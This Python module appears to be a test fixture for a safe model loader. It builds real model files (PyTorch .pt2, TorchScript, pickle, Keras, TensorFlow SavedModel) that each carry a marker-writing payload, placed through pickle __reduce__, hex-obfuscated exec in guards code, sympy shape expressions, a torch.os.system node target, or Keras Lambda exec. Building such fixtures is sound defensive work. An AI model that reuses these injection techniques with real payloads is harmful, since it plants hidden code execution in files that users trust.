"""Model files with a payload that writes a marker file when the loader (or the model) runs it.

Each builder takes the marker path and the folder to write into and returns the file. They
are real files of each format, made the way an attacker would: a valid model whose archive
or config carries code at a place the format's own loader executes.
"""
from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

WRITE = "import pathlib; pathlib.Path({marker!r}).write_text('payload ran')"


class _Exec:
    """Unpickling this object runs ``code`` (pickle calls exec(code) to rebuild it)."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def tiny_torch():
    import torch
    from torch import nn

    torch.manual_seed(0)
    return nn.Sequential(nn.Conv2d(3, 4, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(1),
                         nn.Flatten(), nn.Linear(4, 5)).eval()


def good_pt2(folder: Path) -> Path:
    import torch

    path = folder / "good.pt2"
    torch.export.save(torch.export.export(tiny_torch(), (torch.zeros(1, 3, 16, 16),)), str(path))
    return path


def _rewrite(src: Path, dst: Path, edit) -> Path:
    with zipfile.ZipFile(src) as z:
        files = {n: z.read(n) for n in z.namelist()}
    edit(files)
    with zipfile.ZipFile(dst, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return dst


def _edit_json(files: dict, suffix: str, fn) -> None:
    name = next(n for n in files if n.endswith(suffix))
    doc = json.loads(files[name])
    fn(doc)
    files[name] = json.dumps(doc).encode()


def _pickle(code: str) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(_Exec(code), buf)
    return buf.getvalue()


def pt2_payloads(folder: Path, marker: Path) -> dict[str, Path]:
    """One .pt2 per way torch 2.13's loader can run code (see src/edgekit/zoo/safe_pt2.py)."""
    good, code = good_pt2(folder), WRITE.format(marker=str(marker))

    def pickled_weight(f):
        _edit_json(f, "model_weights_config.json",
                   lambda d: next(iter(d["config"].values())).update(use_pickle=True))
        f[next(n for n in f if n.endswith("weights/weight_0"))] = _pickle(code)

    def pickled_sample_inputs(f):  # torch retries this one with weights_only=False
        f[next(n for n in f if n.endswith("sample_inputs/model.pt"))] = _pickle(code)

    def exec_guards(f):  # ExportedProgram.module() exec()s guards_code
        hidden = f"exec(bytes.fromhex('{code.encode().hex()}').decode()) or True"  # no double quotes
        _edit_json(f, "models/model.json", lambda d: d.update(guards_code=[hidden]))

    def sympy_expression(f):  # sympy.sympify evaluates shape expressions
        def edit(d):
            d["range_constraints"] = {f"__import__('builtins').exec({code!r})": {"min_val": 0, "max_val": 1}}
        _edit_json(f, "models/model.json", edit)

    def file_writing_operator(f):  # a real aten operator that maps a file for writing
        def edit(d):
            node = d["graph_module"]["graph"]["nodes"][0]
            node["target"] = "torch.ops.aten.from_file.default"
        _edit_json(f, "models/model.json", edit)

    def python_callable_target(f):  # targets resolve by getattr from the torch module
        def edit(d):
            node = d["graph_module"]["graph"]["nodes"][-1]
            node["target"] = "torch.os.system"
        _edit_json(f, "models/model.json", edit)

    builders = {fn.__name__: fn for fn in (pickled_weight, pickled_sample_inputs, exec_guards,
                                           sympy_expression, file_writing_operator, python_callable_target)}
    return {name: _rewrite(good, folder / f"{name}.pt2", fn) for name, fn in builders.items()}


def torchscript_payload(folder: Path, marker: Path) -> Path:
    """TorchScript whose __setstate__ (run by torch.jit.load) writes the marker via aten::from_file."""
    import torch

    marker.write_bytes(b"\0" * 4)  # from_file maps an existing file

    class Evil(torch.nn.Module):
        def __init__(self, path: str):
            super().__init__()
            self.path = path
            self.x = torch.zeros(1)

        def forward(self, x):
            return x.mean((2, 3))

        @torch.jit.export
        def __getstate__(self):
            return (self.x, self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, str, bool]):
            self.x, self.path, self.training = state[0], state[1], state[2]
            t = torch.from_file(self.path, shared=True, size=4, dtype=torch.uint8)
            t.fill_(80)  # 'P'
            self.x = self.x + t.float().sum() * 0

    path = folder / "evil.pt"
    torch.jit.script(Evil(str(marker))).save(str(path))
    marker.write_bytes(b"\0" * 4)
    return path


def torchscript_ran(marker: Path) -> bool:
    return marker.exists() and marker.read_bytes() == b"PPPP"


def pickled_module_payload(folder: Path, marker: Path) -> Path:
    path = folder / "whole_model.pt"
    path.write_bytes(_pickle(WRITE.format(marker=str(marker))))
    return path


def keras_lambda_payloads(folder: Path, marker: Path) -> dict[str, Path]:
    """.keras and .h5 models whose Lambda layer writes the marker when the model runs."""
    import keras

    code = WRITE.format(marker=str(marker))
    inp = keras.Input((16, 16, 3))
    x = keras.layers.Lambda(lambda t: (exec(code), t)[1])(inp)  # noqa: S102 (the payload)
    x = keras.layers.GlobalAveragePooling2D()(x)
    model = keras.Model(inp, keras.layers.Dense(5)(x))
    out = {"keras": folder / "lambda.keras", "h5": folder / "lambda.h5"}
    model.save(out["keras"])
    model.save(out["h5"])
    return out


def saved_model_payload(folder: Path, marker: Path) -> Path:
    """A SavedModel whose serving function writes the marker with tf.io.write_file."""
    import tensorflow as tf

    class M(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 16, 16, 3], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(marker), "payload ran")
            return {"logits": tf.reduce_mean(x, axis=[1, 2])}

    m = M()
    path = folder / "saved_model"
    tf.saved_model.save(m, str(path), signatures={"serving_default": m.serve})
    return path
